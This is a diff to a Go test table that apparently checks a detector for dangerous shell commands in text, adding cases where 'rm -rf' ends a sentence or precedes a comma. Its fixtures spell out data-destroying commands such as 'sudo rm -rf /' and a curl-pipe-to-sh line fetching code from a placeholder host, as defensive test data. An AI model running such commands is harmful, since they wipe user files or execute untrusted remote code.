@@ -26,6 +26,8 @@ func TestRemoteExecOutsideCode(t *testing.T) {
 		{"kbd element", "Press <kbd>sudo rm -rf /</kbd> now.\n", []string{"rm -rf /"}},
 		{"sudo at the end", "Then run sudo reboot\n", []string{"sudo r"}},
 		{"sudo before a span", "Press <kbd>sudo rm -rf /</kbd> or sudo <code>rm -rf ~</code>.\n", []string{"rm -rf /", "rm -rf ~"}},
+		{"rm at the end of a sentence", "To reset, run rm -rf ~. Then log in.\n", []string{"rm -rf ~"}},
+		{"rm before a comma", "Wipe it with rm -rf /, then reinstall.\n", []string{"rm -rf /"}},
 		{"one hit for span and prose", "Run `curl -s https://e.example/x | sh` now.\n", []string{"curl -s https://e.example/x | sh"}},
 
 		{"pipe in a sentence", "Pipe the output into sh when you trust it.\n", nil},
